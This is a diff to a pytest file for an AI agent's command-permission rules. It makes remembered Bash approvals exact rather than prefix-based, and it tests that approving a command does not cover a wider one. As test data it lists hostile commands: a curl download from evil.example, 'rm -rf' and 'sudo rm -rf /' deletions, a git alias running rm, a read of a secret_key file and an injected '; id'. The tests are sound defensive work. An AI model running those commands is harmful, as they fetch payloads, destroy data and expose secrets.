@@ -201,12 +201,21 @@ class TestRememberedRules:
         [
             ("git status", "Bash(git status:*)"),
             ("git status --short", "Bash(git status:*)"),
-            ("npm run-script build", "Bash(npm run-script:*)"),
-            ("ls -la", "Bash(ls:*)"),
             ("ls", "Bash(ls:*)"),
-            ("rm notes.txt", "Bash(rm:*)"),
-            ("./build.sh release", "Bash(./build.sh release:*)"),
             ("  echo   hi  ", "Bash(echo hi:*)"),
+            # A prefix would cover every option or file: only the exact command.
+            ("ls -la", "Bash(ls -la)"),
+            ("rm notes.txt", "Bash(rm notes.txt)"),
+            ("git --version", "Bash(git --version)"),
+            ("cat README.md", "Bash(cat README.md)"),
+            # Commands that run other commands or programs: only the exact command.
+            ("npm run-script build", "Bash(npm run-script build)"),
+            ("./build.sh release", "Bash(./build.sh release)"),
+            ("env", "Bash(env)"),
+            ("bash --version", "Bash(bash --version)"),
+            ("sudo ls", "Bash(sudo ls)"),
+            ("python3 test.py", "Bash(python3 test.py)"),
+            ("xargs echo", "Bash(xargs echo)"),
         ],
     )
     def test_bash_keeps_the_leading_words(self, command: str, rule: str) -> None:
@@ -225,10 +234,31 @@ class TestRememberedRules:
             "-rf x",
             "~/bin/x",
             "git status " + "x" * 1000,
+            "ls *.txt",
+            "cat file?.txt",
         ],
     )
     def test_bash_without_a_safe_rule(self, command: str) -> None:
         assert permissions.remembered_rule("Bash", {"command": command}) is None
+
+    @pytest.mark.parametrize(
+        ("approved", "later"),
+        [
+            ("env", "env curl -o /tmp/x http://evil.example/payload"),
+            ("bash --version", "bash -c 'rm -rf ~/important'"),
+            ("git --version", "git -c alias.x='!rm -rf ~' x"),
+            ("python3 test.py", "python3 /tmp/anything.py"),
+            ("cat README.md", "cat /var/lib/agent-api/secret_key"),
+            ("sudo -l", "sudo rm -rf /"),
+            ("./run_tests.sh", "./run_tests.sh --evil"),
+            ("ls -la", "ls -la /etc; id"),
+        ],
+    )
+    def test_an_approval_never_covers_a_wider_command(self, approved: str, later: str) -> None:
+        rule = permissions.remembered_rule("Bash", {"command": approved})
+        assert rule is not None
+        assert rule_matches(rule, "Bash", {"command": approved})
+        assert not rule_matches(rule, "Bash", {"command": later}), rule
 
     def test_other_tools_by_name(self) -> None:
         assert permissions.remembered_rule("Write", {"file_path": "a.txt"}) == "Write"
